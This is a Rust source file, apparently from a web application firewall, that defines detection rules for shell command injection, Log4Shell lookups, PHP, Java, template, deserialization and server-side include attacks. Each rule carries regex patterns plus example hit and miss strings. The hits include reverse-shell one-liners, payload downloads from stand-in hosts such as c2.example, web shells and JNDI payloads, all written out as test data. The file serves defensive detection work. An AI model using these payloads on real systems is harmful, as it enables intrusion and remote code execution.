//! Shell commands, and code in the languages that servers run.

use super::{Rule, rules};
use crate::inputs::{EVERYWHERE, Place, Places, VALUES};

const UPLOADS: Places = Places::of(&[Place::Upload]);
const TEXTUAL: Places = VALUES.and(Places::of(&[Place::UserAgent, Place::Header]));
const UNQUOTED: Places = Places::of(&[
    Place::Arg,
    Place::ArgName,
    Place::Path,
    Place::Cookie,
    Place::UrlHeader,
    Place::Body,
    Place::FileName,
]);
const FIELDS: Places = Places::of(&[Place::Arg, Place::ArgName, Place::Path, Place::Cookie, Place::UrlHeader]);

/// Rules 3000 to 3999.
pub const RULES: &[Rule] = rules! {
    3001 Command Critical "command after a shell separator" on UNQUOTED, view Shell,
        any [";", "|", "&", "$(", "\\n"],
        pattern r"(?:;|\||&|\$\(|\\n) ?(?:(?:sudo|nohup|exec|command|busybox|time|xargs|env) )?(?:/(?:usr/)?s?bin/)?(?:cat|tac|ls|dir|id|whoami|uname|pwd|wget|curl|ncat|netcat|nc|ping6?|nslookup|dig|bash|dash|ash|zsh|ksh|csh|sh|python[23]?|perl|ruby|php|lua|node|echo|printf|sleep|touch|rm|cp|mv|chmod|chown|ifconfig|ipconfig|netstat|ps|kill|killall|tftp|ftp|telnet|ssh|scp|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?|net|systeminfo|tasklist|reg|certutil|bitsadmin|rundll32|wmic|getent|awk|sed|head|tail|base64|xxd|which|hostname|crontab|find|grep|tee|type|set|uptime|mount|dmesg|lsof|useradd|passwd|shutdown|reboot|gcc|export|history|timeout|findstr|ver|systemctl|service|openssl|traceroute|arp|route|last|env|printenv|test|expr)(?: ?(?:$|[;|&`)#>]|\\n|<(?:[/.]|<<|\())| (?:-{1,2}[a-z0-9]|/[a-z?*]|\.{1,2}/|\$|~|\*|[\w./:-]+ ?(?:$|(?: [\w./:-]+ ?){0,3}[;|&`)#>])|https?:|\d{1,3}\.\d{1,3}\.|\+?x |[a-z]:\\|\(\()|\$\(\()",
        hits [";cat /etc/hosts", "a|id", "x && whoami", "$(sleep 5)", "; w'h'oami", "10.0.0.7 && ls /srv", "|getent ahosts c2.example &", "; ls -a /opt"],
        misses ["Tom & Jerry", "a; type of thing that works", "salt|pepper", "R&D", "cats; dogs; find me there", "AT&T; set of five cups"];

    3002 Command Critical "command substitution or expansion" on UNQUOTED, view Base,
        any ["$(", "$ifs", "${ifs", "`", "<(", ">("],
        pattern r"\$\(\(\d+ ?[-+*/] ?\d+\)\)|\$\{?ifs\b|\$ifs|\$\{?ifs[}$a-z0-9]|`(?:/(?:usr/)?bin/)?(?:echo|cat|curl|wget|ping|nslookup|sleep|dig|printf|touch|ls|uname|head|base64|getent|nc|bash|sh) [^`]{1,200}`|`(?:whoami|ifconfig|uname)`|^[^ ]{0,40}`(?:id|ls|pwd|env|ps|dir)`|\$\((?:echo|printf|curl|wget|nslookup|dig|cat|sleep|ping|whoami|id|base64|touch|head|tr|expr) ?[^)]*\)|[<>]\((?:bash|sh|cat|curl|wget|echo) ",
        hits ["echo$IFS$((19+47))", "`curl http://x.example`", "`uname -a`", "x=$(cat /tmp/a)", "cat${IFS}x"],
        misses ["costs $(USD) 5", "the `id` column", "the `digest(s)` of `sleep`", "$(document).ready", "a `code` sample"];

    3003 Command Critical "function definition of a shellshock attack" on TEXTUAL, view Base,
        any ["() {", "(){"],
        pattern r"^\(\) ?\{|\(\) ?\{ ?(?::|_|\w+) ?;? ?\} ?;",
        hits ["() { a;}; /usr/bin/touch b", "() { _; }; uptime", "(){:;};id"], misses ["f() { return 1 }", "() => {}"];

    3004 Command Critical "path of a shell or interpreter" on TEXTUAL, view Shell,
        any ["bin/", "cmd", "powershell", "/dev/tcp", "/dev/udp", "wscript", "invoke-", "iwr", "irm", "iex", "new-object", "rundll32", "regsvr32", "mshta", "certutil", "bitsadmin"],
        pattern r"(?:^|[^\w#])/(?:usr/(?:local/)?)?s?bin/(?:(?:ba|da|z|k|c|tc)?sh|cat|id|ls|nc|ncat|netcat|wget|curl|perl|python|ruby|php|ping|sleep|uname|whoami|env|awk|bash|ps|rm|echo|telnet|nslookup)\b|\bcmd(?:\.exe)? ?/[ckr]\b|\bpowershell(?:\.exe)? +-|/dev/(?:tcp|udp)/\w|\bwscript\.shell|\brundll32(?:\.exe)? +\w+\.dll|\bregsvr32(?:\.exe)? +/|\binvoke-(?:webrequest|expression|command|restmethod|item|mimikatz|shellcode)\b|\b(?:iwr|irm) +https?:|\biex ?\(|\bnew-object +(?:system\.)?net\.|\bmshta(?:\.exe)? +(?:http|java|vb)|\bcertutil(?:\.exe)? +-(?:url|dec|enc)|\bbitsadmin(?:\.exe)? +/",
        hits ["nc -e /bin/sh 1.2.3.4", "cmd.exe /c dir", "powershell -enc AAAA", "bash -i >& /dev/tcp/1.2.3.4/99"],
        misses ["/bin/", "the powershell book", "#!binary", "cabin/bash-ful"];

    3005 Command Critical "shell with arguments" on UNQUOTED, view Shell,
        any ["nc ", "ncat ", "netcat ", "bash ", "sh ", "wget ", "curl ", "chmod ", "rm ", "nslookup ", "ping ", "cat ", "python", "perl ", "php ", "ruby "],
        pattern r"(?:^|[^\w.-])(?:(?:nc|ncat|netcat) (?:-[a-z]+ )*[\w.:-]+ (?:\d+ )?-[ec] ?/?|(?:nc|ncat|netcat) -[a-z]*[lepv][a-z]* |(?:ba|z|da)?sh -[ci] |(?:wget|curl) (?:-{1,2}[\w-]+ (?:[\w./]+ )?)*(?:https?|ftp)://|chmod (?:[0-7]{3,4}|[ugoa]*\+[rwxs]+) [\w./]|rm -[rf]{1,2} [/~.*]|nslookup [\w-]+\.[\w.-]+ ?$|ping -[cn] ?\d+ [\w.]+|cat /(?:etc|proc|var|home|root|flag)|(?:python[23]?|perl|php|ruby) -(?:c|e|r) ?[\w(])",
        hits ["nc -lp 9001 -e /bin/sh", "wget http://c2.example/run.sh", "chmod +x y", "rm -rf /", "ping -c 5 127.0.0.1"],
        misses ["the curl of a field", "an nc machine with 3 axes", "the ls model of 1998", "bash the piñata", "cat and mouse", "wash -c"];

    3006 Command Critical "wildcards in place of a command" on UNQUOTED, view Base,
        any ["?", "*", "["],
        pattern r"(?:^|[ ;|&`(])/(?:[a-z]{0,3}\?+[a-z?]*|[a-z]\*|\[[a-z-]+\][a-z?]*)/(?:[a-z?]*\?[a-z?]*|[a-z]*\*|[a-z\[\]-]*\[[a-z-]+\][a-z?]*)|/(?:etc|s?bin|usr|var|proc|home|root)/[\w/]{0,20}\[[!^a-z/-]{1,8}\]\w|/\w{0,8}\[[!^a-z/-]{1,6}\]\w{0,8}/\w",
        hits ["/???/??t /???/p??s??", "; /b?n/c?t", "/bi?/ca?", "/etc/[m-z]asswd"], misses ["/what/?/really", "a /x/ b?", "see /docs/*"];

    3007 Command Critical "options for a command line" on FIELDS, view Base,
        any ["--exec", "--upload-pack", "-oproxycommand", "--use-askpass", "--checkpoint-action", "-tvtt", "--post-file", "--output-document", "--to-command", "-oexec", "--receive-pack", "-dsafer", "auto_prepend_file", "allow_url_include"],
        pattern r"--(?:exec|upload-pack|receive-pack|use-askpass|checkpoint-action|to-command)=[^ ]|-oproxycommand ?=|^-tvtt=|--(?:post-file|output-document)=|-oexec=|-d ?(?:auto_prepend_file|allow_url_include)|\ballow_url_include ?=|\bauto_prepend_file ?=",
        hits ["x--exec=`touch y`", "-oProxyCommand=id", "-TvTT=touch z"], misses ["--executive summary", "what does --exec do?"];

    3008 Command Critical "command on a line of its own" on UNQUOTED, view Plain,
        any ["id", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "cat ", "wget ", "curl ", "ping ", "sleep ", "ls", "pwd", "nslookup ", "echo", "printenv", "systeminfo"],
        pattern r"[\r\n][ \t]*(?:/(?:usr/)?bin/)?(?:(?:whoami|uname(?: -a)?|ifconfig|ipconfig(?: /all)?|netstat -\w+|ls -\w+(?: [/.~]\S*)?|ls [/.~]\S*|printenv|systeminfo)[ \t]*(?:[\r\n;|&#]|$)|cat [/.~]|(?:wget|curl) (?:-\S+ )*https?:|ping -[cn] ?\d|sleep \d+[ \t]*(?:[\r\n;|&#]|$)|nslookup \S+\.\S+[ \t]*(?:[\r\n;|&#]|$)|echo ?\$)|^[^\r\n]{0,60}[\r\n]+(?:id|ls|pwd|netstat)[ \t;|&#\r\n]*$",
        hits ["127.0.0.1%0aid%0a", "x\ncat /etc/hosts", "a\r\nwhoami"], misses ["first\nidentity", "fragment x on y {\n    id\n    content\n}", "a list:\nls and more text", "whoami"];

    3009 Command Critical "command chain in a header" on Places::of(&[Place::Header, Place::UserAgent]), view Shell,
        any ["&&", "||", "$(", "`", ";", "|"],
        pattern r"(?:&&|\|\||\$\(|`|[;|]) ?(?:/(?:usr/)?bin/)?(?:(?:cat|ls|head|tail|rm|chmod|find) (?:-\w+ )*[/~.]|(?:whoami|uname|ifconfig|ipconfig)(?: -\w+)? ?(?:$|[)`;|&])|(?:wget|curl) (?:-\S+ )*(?:https?:|[\w.-]+\.[a-z])|(?:nslookup|dig|ping|host) (?:-\w+ ?\d* )*[\w.-]+\.\w|(?:ba)?sh -[ci]|sleep \d+ ?(?:$|[)`;|&])|echo [\w$'])|(?:&&|\|\||\$\(|`) ?id ?(?:$|[)`;|&])",
        hits ["ping=10.0.0.7 && ls /srv", "x; cat /etc/hosts", "a$(curl http://x.example)", "a | whoami"],
        misses ["Mozilla/5.0 (X11; Linux x86_64; id)", "text/html; charset=utf-8", "a=1; echo=2", "en-US,en;q=0.5"];

    3101 Code Critical "lookup expression of a logging library" on EVERYWHERE, view Base,
        any ["${"],
        pattern r"\$\{ ?jndi ?:|\$\{[^{}]{0,64}\$\{ ?(?:lower|upper|env|sys|::|:|date|java|main|ctx|bundle|k8s|base64|[a-z]*:-)|\$\{ ?(?:lower|upper|env|sys|ctx|java|::-|base64|script|dns|url) ?:",
        hits ["${jndi:ldap://x.example/a}", "${${lower:J}ndi:dns://c2.example}", "${j${loWer:Nd}i${uPper::}:/x}", "${${::-j}ndi:rmi://x}"],
        misses ["${name}", "$jndi:ldap", "${a} and ${b}", "price ${lowest}"];

    3102 Code Critical "PHP code" on VALUES, view Base,
        any ["<?", "_get", "_post", "_request", "_cookie", "_server", "_files", "_session", "globals["],
        pattern r"<\?(?:php\b|=| ?(?:eval|system|echo|exec|passthru|include|print|phpinfo|@))|\$\{?_(?:get|post|request|cookie|server|files|session) ?[\[{]|\$globals\[|^_(?:get|post|request|server|cookie)\[",
        hits ["<?php phpinfo();", "<?= 7*7 ?>", "$_GET['c']"], misses ["<?xml version=\"1.1\" ?>", "target_get", "$_ is a variable"];

    3103 Code Critical "call of a PHP function that runs or reads things" on VALUES, view Script,
        any ["eval", "system", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "phpinfo", "call_user_func", "create_function",
             "file_put_contents", "file_get_contents", "base64_decode", "gzinflate", "str_rot13", "preg_replace", "show_source", "highlight_file", "readfile", "fsockopen", "move_uploaded_file", "print(`", "exec", "gzuncompress", "gzdecode", "strrev", "unpack", "curl_", "array_", "register_shutdown", "ini_set", "putenv", "chmod", "unlink", "scandir", "opendir", "getenv", "error_log", "symlink", "posix_", "proc_", "apache_", "get_defined_"],
        pattern r#"(?:^|[^a-z0-9_.$>-])@?(?:passthru|shell_exec|popen|proc_open|pcntl_exec|phpinfo|call_user_func(?:_array)?|create_function|file_put_contents|gzinflate|str_rot13|show_source|highlight_file|readfile|fsockopen|move_uploaded_file|file_get_contents|base64_decode)\([^)]*\)?|(?:^|[^a-z0-9_.$>-])(?:system|exec|assert)\((?:['"$@`]|base64_decode|chr\(|print|echo|implode|hex2bin)|(?:^|[^a-z0-9_.$>-])eval\((?:[\$@'"`]|base64_decode|gzinflate|str_rot13|request|chr\(|hex2bin)|\(['"]?(?:system|exec|passthru|shell_exec|assert|phpinfo)['"]?\)(?:\[\d\])*\(|(?:^|[^a-z0-9_.$>-])(?:gzuncompress|gzdecode|strrev|unpack|curl_init|curl_exec|array_map|array_filter|register_shutdown_function|ini_set|putenv|chmod|unlink|scandir|opendir|getenv|error_log|symlink|posix_\w+|proc_\w+|apache_\w+|get_defined_\w+)\(['"$@]|preg_replace\(['"]/[^,]*/[a-df-z]*e[a-z]*['"],|print\(`"#,
        hits ["system('id')", "${shell_exec(print(`echo A`))}", "@eval($_POST[x])", "phpinfo()", "}print(`echo x`);", "(system)(ls)"],
        misses ["evaluation (system)", "operating system (linux)", "the medieval(s)", "object.exec('x')"];

    3104 Code Critical "Java code or expression" on VALUES.and(Places::of(&[Place::Header])), view Script,
        any ["getruntime", "processbuilder", "java.", "javax.", "ognl", "_memberaccess", "classloader", "freemarker", "scriptengine", "t(java", "org.apache", "com.sun", "org.spring", "getclass", "class.module", "transformer", "closure", "prototype", "factory", "beanshell", "bsh.", "nashorn", "templatesimpl", "invocationhandler", "badattributevalue", "jdbcrowset", "unicastref"],
        pattern r"getruntime\(|\bprocessbuilder\b|java\.runtime|(?:invoker|instantiate|chained|constant|clone|factory)transformer|(?:while|for|transformer|chained|switch)closure\b|prototypeclonefactory|prototypeserializationfactory|(?:instantiate|reflection)factory\b|beanshell|bsh\.interpreter|jdk\.nashorn|templatesimpl|annotationinvocationhandler|badattributevalueexp|jdbcrowset|unicastref|java\.lang\.(?:runtime|processbuilder|system|class|string|thread|math|object|reflect)|java\.(?:util\.scanner|io\.(?:file|input|buffered|output)|net\.(?:url|socket)|nio\.)|javax\.(?:script|naming|el\b)|ognl\.|#?_memberaccess|class\.module\.classloader|\.classloader\b|freemarker\.template|scriptenginemanager|t\(java|org\.apache\.(?:commons\.(?:collections|io)|struts2?|xalan|logging)|com\.sun\.(?:rowset|org|jndi)|org\.springframework\.(?:context|cglib|util|expression)|getclass\(\)\.|\.getclass\b.{0,10}forname",
        hits ["%{(#_memberAccess['x']=1)}", "T(java.lang.Runtime).getRuntime().exec('id')", "class.module.classLoader.resources"],
        misses ["a java course", "java.com", "I use freemarker and OGNL daily"];

    3105 Code Critical "expression of a template language" on VALUES.and(Places::of(&[Place::UserAgent])), view Base,
        any ["{", "<%", "<#", "@("],
        pattern r#"(?:\{\{|\$\{|#\{|\*\{|%\{|@\(|\{) ?['"]?\d+['"]? ?[*+/-] ?['"]?\d+['"]? ?(?:\}|\))|<%=? ?(?:\d+ ?\*|@|system|file\.|exec|`|response|eval|request|out\.|import|runtime)|\{\{[^{}]{0,120}(?:constructor|__class__|__globals__|__init__|self\.|config\b|request\.|cycler|lipsum|joiner|namespace\(|\.push|_self|range\(|\['|\|(?:attr|filter|map|join)|dump\(|app\.|php\b|exec|\$on|\$eval|tostring|''\.|""\.|\[\]\.)|\{% ?(?:import|include|for|if|set|debug|raw|load|block|extends|macro)[^%]{0,200}(?:os|popen|self|config|__|system|%\})|<#(?:assign|include|import|list|setting|if)\b|(?:\$|#|\*|%|~)\{[^{}]{0,60}(?:\(|t\(|\.class|new |@java|#context|#request|session|param\.|__\$|applicationscope|pagecontext)[^{}]{0,200}(?:\)|\})?"#,
        hits ["{{6*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "<#assign run = 'y'?new()>", "{{constructor.constructor('a')()}}"],
        misses ["{{name}}", "{{ user.name }}", "${price}", "#{anchor}", "{7}", "<% end"];

    3106 Code Critical "serialized object" on VALUES, view Base,
        any [":\"", ":{", "ro0ab", "aced0005", "\u{ac}\u{ed}", "aaeaaad/////", "__reduce__", "cposix", "csubprocess", "_$$nd_func$$_", "!!python", "!!javax", "!!com.", "!ruby/"],
        pattern r#"(?:^|[^a-z0-9])[oc]:\+?\d{1,5}:"[\w\\]+":\d+:\{|^a:\d+:\{(?:i|s|o):|ro0abx|aced0005|\xc2\xac\xc3\xad|aaeaaad/////|__reduce__|cposix ?\n?system|csubprocess|_\$\$nd_func\$\$_|!!python/|!!javax\.|!!com\.sun|!ruby/(?:object|hash)"#,
        hits ["O:8:\"Example1\":1:{s:1:\"a\";i:1;}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "!!python/object/apply:os.system"],
        misses ["ratio:1:2", "note: a:1", "zero0abc"];

    3107 Code Critical "Python, Ruby or Node.js code" on VALUES, view Script,
        any ["__import__", "os.system", "os.popen", "subprocess", "__class__", "__subclasses__", "__globals__", "__builtins__", "child_process", "process.mainmodule", "process.env", "global.process", "execsync", "spawnsync", "kernel.", "io.popen", "process.binding", "__mro__", "open3.", "mainmodule", "process.", "while("],
        pattern r#"__import__\(|\bos\.(?:system|popen)\(|subprocess\.(?:popen|call|run|check)|__(?:class|subclasses|globals|builtins|mro)__[.\[(\])|'"]|child_process|process\.mainmodule|mainmodule\.require|process\.env\b.{0,20}[\])]|global\.process|(?:exec|spawn)sync\(|kernel\.(?:exec|system|open|fork)|io\.popen\(|process\.binding|open3\.(?:popen|capture)|\bprocess\.(?:spawn|exec|fork)\(|(?:^|;)while\((?:true|1\)|!|-?infinity|\()"#,
        hits ["__import__('os').system('id')", "require('child_process').execSync('id')", "x.__class__.__mro__[1]"],
        misses ["import os", "a subprocess of ours", "macos.system preferences"];

    3108 Code Critical "ASP or VBScript code" on VALUES, view Script,
        any ["server.createobject", "wscript.", "scripttimeout", "execute(", "response.write(", "createobject(", "activexobject", "eval(request", "executeglobal", "server.mappath"],
        pattern r#"server\.createobject|wscript\.shell|server\.scripttimeout|execute(?:global)?\((?:request|chr\(|""|response|server|strreverse)|response\.write\((?:\d|["'(]|request)|createobject\(["']?(?:wscript|scripting|adodb|shell|msxml)|activexobject\(|server\.mappath\("#,
        hits ["response.write(9*9)", "execute(request(\"x\"))", "CreateObject(\"WScript.Shell\")"], misses ["execute (please) now", "the response.written text"];

    3109 Code Critical "server-side include" on VALUES, view Base,
        any ["<!--", "<esi:"],
        pattern r"<!-- ?# ?(?:exec|include|echo|config|printenv|set|fsize|flastmod|if)\b|<esi:(?:include|vars|inline|remove|debug|assign)",
        hits ["<!--#exec cmd=\"uptime\"-->", "<!--#include virtual=\"/x\"-->", "<esi:include src=\"http://x/\"/>"], misses ["<!-- comment -->", "<!-- # of items -->"];

    3110 Code Critical "web shell in an uploaded file" on UPLOADS, view Base,
        any ["<?php", "<?=", "<%", "<jsp:", "<script", "#!/"],
        pattern r#"<\?(?:php|=)[^>]{0,400}(?:eval|assert|system|exec|passthru|popen|proc_open|\$_(?:get|post|request|cookie|files|server)|base64_decode|phpinfo|file_put_contents|create_function|include|call_user_func|\$\{?["'_]|`)|<%@? ?(?:page|eval|execute|import|runtime|=? ?(?:request|system|runtime|new ))|<jsp:(?:scriptlet|root|directive)|<script[^>]{0,40}(?:runat ?= ?["']?server|language ?= ?["']?php)|^#!/(?:usr/)?bin/(?:env |ba|pe|py|sh)"#,
        hits ["<?php @eval($_POST['x']);", "<%@ page import=\"java.io.*\" %>", "GIF89a<?=`$_GET[0]`?>"],
        misses ["<?xml version=\"1.1\" ?>", "100 <% 200", "#! not a script"];
};
